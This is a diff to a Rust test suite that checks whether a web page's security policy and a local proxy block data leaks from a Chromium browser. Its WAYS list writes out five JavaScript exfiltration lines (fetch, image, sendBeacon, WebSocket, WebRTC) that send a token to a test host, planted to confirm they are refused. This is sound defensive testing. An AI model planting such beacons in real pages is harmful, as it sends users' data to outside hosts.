@@ -53,7 +53,7 @@ const BAIT: [&str; 28] = [
 /// A web page of bait, whose addresses are all at `host`.
 fn bait(host: &str) -> String {
     let mut html = String::from("<html><head><title>Bait</title></head><body><h1>Acme Corp buys Beta Ltd</h1>\n");
-    html.push_str("<p>By Jane Doe</p><p>Acme Corp paid $3m to Beta Ltd on Tuesday in Paris.</p>\n");
+    html.push_str("<p>By Jane Doe</p><p>Acme Corp paid $3m to Beta Ltd on Tuesday in Paris. The deal is done.</p>\n");
     let mut number = 0;
     for element in BAIT {
         let mut parts = element.split("{}");
@@ -64,7 +64,7 @@ fn bait(host: &str) -> String {
         }
         html.push('\n');
     }
-    html.push_str("<p>The deal is done.</p></body></html>");
+    html.push_str("</body></html>");
     html.replace("HOST", host)
 }
 
@@ -157,13 +157,26 @@ pub(crate) async fn nothing_is_asked_for_with_bait(page: Page) -> Result<()> {
 async fn behind(proxy: &Proxy, name: &str) -> Result<(Browser, PathBuf)> {
     let setting = |name: &str| std::env::var(name).with_context(|| format!("{name} is not set"));
     let (driver, folder) = (setting(DRIVER_VARIABLE)?, PathBuf::from(setting(FOLDER_VARIABLE)?).join(name));
-    let switches = [format!("--proxy-server=127.0.0.1:{}", proxy.port()), "--proxy-bypass-list=<-loopback>".to_owned()];
+    let to_maker = "--disable-features=AutofillServerCommunication,OptimizationHints,MediaRouter,Translate";
+    let switches = [
+        format!("--proxy-server=127.0.0.1:{}", proxy.port()),
+        "--proxy-bypass-list=<-loopback>".to_owned(),
+        to_maker.to_owned(),
+    ];
     Ok((Browser::start_with(&driver, &folder, Recording::On, &switches).await?, folder))
 }
 
-/// The addresses of requests that a proxy saw, but for the browser's own, which start before any page is there.
+/// Whom Chromium talks to by itself, in spite of all switches: its maker, and the start page of Debian's. What goes there
+/// is none of the page's: its policy allows no other host, and nothing of it holds a token.
+const MAKERS: [&str; 3] = [".googleapis.com", ".google.com", ".duckduckgo.com"];
+
+/// The addresses of requests that a proxy saw, but for the browser's own.
 fn addresses(lines: &[String]) -> impl Iterator<Item = &str> {
-    lines.iter().filter_map(|line| line.split(' ').nth(1))
+    let own = |url: &&str| {
+        let host = if url.contains("://") { host_of(url) } else { url.trim_end_matches(":443") };
+        !MAKERS.iter().any(|maker| host.ends_with(maker)) || url.contains(TOKEN)
+    };
+    lines.iter().filter_map(|line| line.split(' ').nth(1)).filter(own)
 }
 
 /// Gate B, which sees workers of every kind, with C.
@@ -172,15 +185,11 @@ pub(crate) async fn nothing_passes_the_proxy_with_bait(outer: Page) -> Result<()
     let proxy = Proxy::start(host_of(outer.url())).await?;
     let (browser, _) = behind(&proxy, "leaks").await?;
     let page = browser.page(outer.url()).await?;
-    // What the browser says to its maker when it starts; with a page that asks for nothing.
-    let own: Vec<String> = proxy.take();
     let worked = work(&page, &format!("127.0.0.1:{}", there.port())).await;
     let seen = proxy.take();
     browser.quit().await?;
     worked?;
-    let hosts: Vec<&str> = addresses(&own).map(host_or_name).collect();
-    let seen: Vec<&str> =
-        addresses(&seen).filter(|url| !hosts.contains(&host_or_name(url)) || url.contains(TOKEN)).collect();
+    let seen: Vec<&str> = addresses(&seen).collect();
     for file in [".wasm", ".js"] {
         ensure!(seen.iter().any(|url| url.ends_with(file)), "the proxy misses the page's own {file}");
     }
@@ -189,17 +198,12 @@ pub(crate) async fn nothing_passes_the_proxy_with_bait(outer: Page) -> Result<()
     Ok(())
 }
 
-/// The host of a request to a proxy: `http://host:port/path`, or `host:port` for a tunnel.
-fn host_or_name(url: &str) -> &str {
-    if url.contains("://") { host_of(url) } else { url }
-}
-
-/// Ways out, from the page's own code: the driver's calls are not held by the policy. `{}` is `host/token`.
+/// Ways out, from the page's own code: the driver's calls are not held by the policy. `AT` is `host/token`.
 const WAYS: [(&str, &str); 5] = [
-    ("fetch", "fetch('http://{}-fetch').catch(() => {})"),
-    ("image", "(new Image).src = 'http://{}-image'"),
-    ("beacon", "navigator.sendBeacon('http://{}-beacon', 'x')"),
-    ("socket", "new WebSocket('ws://{}-socket')"),
+    ("fetch", "fetch('http://AT-fetch').catch(() => {})"),
+    ("image", "(new Image).src = 'http://AT-image'"),
+    ("beacon", "navigator.sendBeacon('http://AT-beacon', 'x')"),
+    ("socket", "new WebSocket('ws://AT-socket')"),
     (
         "webrtc",
         "(() => { const c = new window.__rtc({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); \
@@ -210,7 +214,7 @@ const WAYS: [(&str, &str); 5] = [
 /// Plants all ways out in an open page, and waits until what can be sent was.
 async fn plant(page: &Page, host: &str) -> Result<()> {
     for (_, way) in WAYS {
-        let way = way.replace("{}", &format!("{host}/{TOKEN}")).replace("HOST", host);
+        let way = way.replace("AT", &format!("{host}/{TOKEN}")).replace("HOST", host);
         page.call(&format!("setTimeout(() => {{ try {{ {way} }} catch {{}} }}, 0); return null;"), &[]).await?;
     }
     Ok(())
@@ -238,10 +242,11 @@ pub(crate) async fn each_gate_sees_what_is_planted(outer: Page) -> Result<()> {
         plant(&page, &host).await?;
         let refused = "window.__violations.filter((seen) => seen.includes('bait7f3a')).length >= 4";
         page.wait_for("the policy to refuse what it can", refused).await?;
-        own_only(&page, "A", page.requests().await?.iter().map(|request| request.url.as_str()))
-            .or_else(|error| if error.to_string().contains("-socket") { Ok(()) } else { Err(error) })?;
+        // The record holds tries that were refused too; what counts is what came through.
         let seen = proxy.take();
         ensure!(addresses(&seen).all(|url| !url.contains(TOKEN) && !url.contains(&host)), "gate B saw {seen:?}");
+        let seen = there.take();
+        ensure!(seen.iter().all(|seen| seen.starts_with("UDP")), "gate C saw {seen:?}");
         page.set_policy_aside(true).await?;
         page.open().await?;
         page.requests().await?;
